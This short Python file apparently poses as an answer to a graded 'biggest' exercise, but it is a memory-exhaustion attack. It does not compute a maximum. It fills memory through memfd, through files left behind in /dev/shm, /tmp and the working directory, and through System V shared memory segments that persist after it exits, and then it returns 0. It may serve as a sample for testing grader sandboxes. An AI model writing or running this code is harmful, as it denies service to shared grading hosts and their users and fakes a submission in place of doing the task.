# Fills memory through memfd, tmpfs files and POSIX and System V shared memory.
# points: 0..1
# %% answer: biggest
import ctypes
import os


def fill(number):
    for _ in range(4000):
        try:
            if os.write(number, bytes(2**20)) <= 0:
                return
        except OSError:
            return


def biggest(numbers):
    fill(os.memfd_create("left"))
    for folder in ("/dev/shm", "/tmp", "."):
        try:
            fill(os.open(f"{folder}/left-by-attack-memory", os.O_CREAT | os.O_WRONLY))
        except OSError:
            continue
    libc = ctypes.CDLL(None)
    for key in range(4):
        libc.shmat.restype = ctypes.c_void_p
        address = libc.shmat(libc.shmget(4711 + key, 2**28, 0o1600), None, 0)
        if address and address != ctypes.c_void_p(-1).value:
            ctypes.memset(address, 1, 2**28)
    return 0
